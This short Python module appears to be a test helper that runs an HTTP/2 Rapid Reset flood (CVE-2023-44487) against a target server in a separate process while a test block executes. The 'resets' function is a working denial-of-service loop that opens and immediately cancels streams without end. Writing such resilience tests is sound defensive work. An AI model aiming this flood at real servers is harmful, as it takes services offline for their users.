"""What hostile clients send without end, each flood from a process of its own."""

import contextlib
import multiprocessing
from collections.abc import Callable, Iterator
from multiprocessing.synchronize import Event
from pathlib import Path

from support.frames import ANSWER, Frames, message

BURST = 100


def resets(target: str, begun: Event, ca: Path | None = None) -> None:
    """Calls that are ended as soon as they have begun (CVE-2023-44487), over one connection."""
    while True:
        with contextlib.suppress(OSError), contextlib.closing(Frames(target, ca)) as client:
            while not client.closed:
                for _ in range(BURST):
                    client.reset(client.open(ANSWER, body=message()))
                client.send()
                begun.set()
                while client.read(within=0.0001):
                    pass


@contextlib.contextmanager
def beside(
    flood: Callable[[str, Event, Path | None], None], target: str, ca: Path | None = None
) -> Iterator[None]:
    """The flood comes for as long as the block lasts."""
    context = multiprocessing.get_context("spawn")
    begun = context.Event()
    process = context.Process(target=flood, args=(target, begun, ca))
    process.start()
    try:
        assert begun.wait(30), "the flood did not begin"
        yield
        assert process.is_alive(), "the flood ended by itself"
    finally:
        process.kill()
        process.join()
        process.close()
